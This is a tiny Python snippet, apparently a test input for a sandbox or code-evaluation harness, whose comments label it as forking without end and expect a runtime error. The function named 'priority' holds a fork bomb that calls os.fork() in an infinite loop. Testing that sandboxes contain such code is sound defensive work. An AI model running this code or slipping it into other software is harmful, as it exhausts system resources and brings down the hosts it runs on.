# Tries: to fork without an end
# Ends in: runtime_error
def priority(x):
    import os
    while True:
        os.fork()
